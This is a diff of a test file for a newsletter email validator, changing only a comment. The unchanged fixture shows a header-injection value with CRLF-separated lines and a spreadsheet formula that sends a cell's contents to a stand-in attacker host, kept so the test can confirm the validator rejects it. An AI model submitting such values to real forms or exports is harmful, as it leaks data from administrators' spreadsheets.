@@ -14,7 +14,7 @@ describe('newsletter email', () => {
   });
 });
 
-/** Review 22 M3: one anonymous POST that planted three lines, one a spreadsheet formula, in the admin's export. */
+/** One anonymous POST that planted three lines, one a spreadsheet formula, in the admin's export. */
 const PLANTED = 'kid@example.com\r\n=HYPERLINK("http://evil.example/?"&A1,"Click")@x\r\nplanted@evil.example';
 
 describe('newsletter email: one plausible address, nothing more', () => {
